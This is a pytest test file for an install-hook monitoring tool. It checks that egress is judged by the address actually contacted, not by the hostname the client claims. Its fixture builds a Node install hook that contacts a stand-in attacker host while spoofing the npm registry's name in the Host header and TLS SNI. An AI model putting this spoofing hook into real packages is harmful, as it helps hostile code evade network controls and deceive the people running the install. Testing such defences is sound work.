"""Class 1: the contact is what was connected, never what the client claims.

An install hook connects to an unfamiliar host's address (evil.test's) and names the allowed
registry in its Host header (plain HTTP) and in its TLS SNI. Bare, evil.test gets both
requests; under ciwatch the contact is evil.test's address: ``unfamiliar-egress`` naming that
address, the package and the hook; in block mode refused before anything reaches it (exit 3),
in ``--net redirect`` and in ``--net sandbox``.
"""

from __future__ import annotations

import textwrap

import pytest

from tests.support.attacks import POLICY_FAILED, assert_found, assert_replay_agrees
from tests.support.hooks import HOOK, Hooks, assert_exit, hosts_of
from tests.support.internet import EVIL, NPM_REGISTRY, TestInternet

pytestmark = [pytest.mark.npm, pytest.mark.root]

PACKAGE = "claims-registry"


def _hook(evil_ip: str) -> str:
    """Node: the registry's name in Host (HTTP) and in SNI and Host (TLS), sent to evil's address."""
    return textwrap.dedent(
        f"""\
        const http = require("http"), https = require("https");
        const headers = {{ host: "{NPM_REGISTRY}" }};
        const done = (r) => r.resume();
        http.get({{ host: "{evil_ip}", port: 80, path: "/claimed-http", headers }}, done).on("error", () => {{}});
        https.get({{ host: "{evil_ip}", port: 443, path: "/claimed-tls", headers, servername: "{NPM_REGISTRY}",
                     rejectUnauthorized: false }}, done).on("error", () => {{}});
        """
    )


def _publish(hooks: Hooks, evil_ip: str) -> str:
    return hooks.publish(PACKAGE, "node hook.js", files={"hook.js": _hook(evil_ip)})


def test_bare_the_claim_reaches_the_unfamiliar_server(internet: TestInternet, hooks: Hooks, evil_ip: str) -> None:
    hooks.bare_script("hook.js", _hook(evil_ip), "node")
    paths = sorted(r.path for r in internet.requests_to(EVIL))
    assert paths == ["/claimed-http", "/claimed-tls"]
    assert {r.host_header for r in internet.requests_to(EVIL)} == {NPM_REGISTRY}


def test_audit_judges_the_address_not_the_claimed_name(internet: TestInternet, hooks: Hooks, evil_ip: str) -> None:
    package = _publish(hooks, evil_ip)
    watched = hooks.install(package)
    assert_exit(watched, 0)
    # Audit lets the plain request through. The TLS one dies upstream: the proxy verifies the
    # server's certificate against the name the client claimed, which evil.test can't prove.
    assert [r.path for r in internet.requests_to(EVIL)] == ["/claimed-http"]
    found = assert_found(watched, "unfamiliar-egress", package, HOOK)
    assert evil_ip in hosts_of(found), watched.described()
    assert NPM_REGISTRY in next(f["message"] for f in found if f["host"] == evil_ip)
    assert_replay_agrees(watched)


@pytest.mark.parametrize("net", [None, "sandbox"])
def test_block_refuses_the_claim_before_it_reaches_the_address(
    internet: TestInternet, hooks: Hooks, evil_ip: str, net: str | None
) -> None:
    package = _publish(hooks, evil_ip)
    watched = hooks.install(package, mode="block", net=net)
    assert_exit(watched, POLICY_FAILED)
    assert internet.requests_to(EVIL) == []
    found = assert_found(watched, "unfamiliar-egress", package, HOOK)
    assert evil_ip in hosts_of(found), watched.described()
    assert_replay_agrees(watched)
